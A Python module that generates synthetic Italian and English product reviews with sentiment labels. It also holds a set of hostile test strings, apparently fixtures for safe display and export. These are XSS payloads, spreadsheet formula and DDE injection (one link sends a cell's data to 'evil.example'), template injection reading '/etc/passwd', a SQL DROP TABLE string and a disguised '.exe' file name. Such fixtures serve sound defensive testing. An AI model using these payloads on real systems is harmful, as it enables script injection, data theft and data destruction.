"""What customers of a shop write, in two languages, and what people write who mean harm."""

import random
from dataclasses import dataclass

# Whoever shows a text, a note, a name or a file shows these too.
HOSTILE_TEXTS = (
    "<script>alert('text')</script><img src=x onerror=alert(1)> ottimo",
    "\"><svg/onload=alert(2)>' autofocus onfocus='alert(3)",
    '=HYPERLINK("http://evil.example/?"&A1,"clicca qui")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{{ 7*7 }} ${7*7} {% include '/etc/passwd' %}",
    "'; DROP TABLE predictions; --",
    "Robusto\u202egpj.exe\u202c e con\u200bspazi\ufeff nascosti",
    "Donaudampfschifffahrtsgesellschaft" * 12,
    "👩\u200d👩\u200d👧\u200d👦 😀 ꧁ ottimo ꧂ \u200fעברית\u200e 中文 ",
    "prima riga\nseconda riga\n\n\nultima\triga",
)
HOSTILE_NAME = '"><script>alert("name")</script>'
HOSTILE_NOTE = "<img src=x onerror=alert('note')> =1+1"

_THINGS = {
    "it": "lo zaino|il telefono|la lampada|la sedia|le cuffie|l'orologio|la tastiera|la pentola|la giacca|il libro",
    "en": "the backpack|the phone|the lamp|the chair|the headphones|the watch|the keyboard|the pan|the jacket|the book",
}
_SAID = {
    "it": {
        "positive": "Ottimo acquisto, {} supera le aspettative|Sono contentissima: {} funziona benissimo|"
        "Consegna rapida e {} è perfetto per me|Consiglio a tutti {}, vale ogni euro",
        "neutral": "Ho ricevuto {} martedì, ancora da provare|Nella norma: {} fa quello che deve|"
        "Chiedo se {} esiste anche in blu|Imballaggio un po' grande, {} è come in foto",
        "negative": "Pessimo: {} si è rotto dopo due giorni|Soldi buttati, {} non funziona|"
        "Assistenza assente e {} è arrivato graffiato|Delusa, {} sembra usato",
    },
    "en": {
        "positive": "Great buy, {} is better than I hoped|I love it: {} works very well|"
        "Quick delivery and {} is perfect for me|I recommend {} to everyone, worth every penny",
        "neutral": "I got {} on Tuesday, still to be tried|Average: {} does what it should|"
        "Does {} come in blue as well?|The box is rather large, {} is as in the picture",
        "negative": "Terrible: {} broke after two days|Money wasted, {} does not work|"
        "No support at all and {} arrived scratched|Disappointed, {} looks used",
    },
}
_MOMENTS = {
    "it": "|per ora|dopo una settimana|rispetto al vecchio|per mia figlia|a questo prezzo|in ufficio|in viaggio",
    "en": "|for now|after a week|compared with the old one|for my daughter|at this price|at work|when travelling",
}


@dataclass(frozen=True)
class Review:
    text: str
    label: str
    language: str


def a_review(chance: random.Random, number: int) -> Review:
    """`number` makes it differ from the others."""
    language = "it" if chance.random() < 0.65 else "en"
    label = chance.choices(("positive", "neutral", "negative"), (0.5, 0.2, 0.3))[0]
    said = chance.choice(_SAID[language][label].split("|"))
    thing = chance.choice(_THINGS[language].split("|"))
    moment = chance.choice(_MOMENTS[language].split("|"))
    ending = f" {moment}" if moment else ""
    order = "ordine" if language == "it" else "order"
    return Review(f"{said.format(thing)}{ending} ({order} {number}).", label, language)
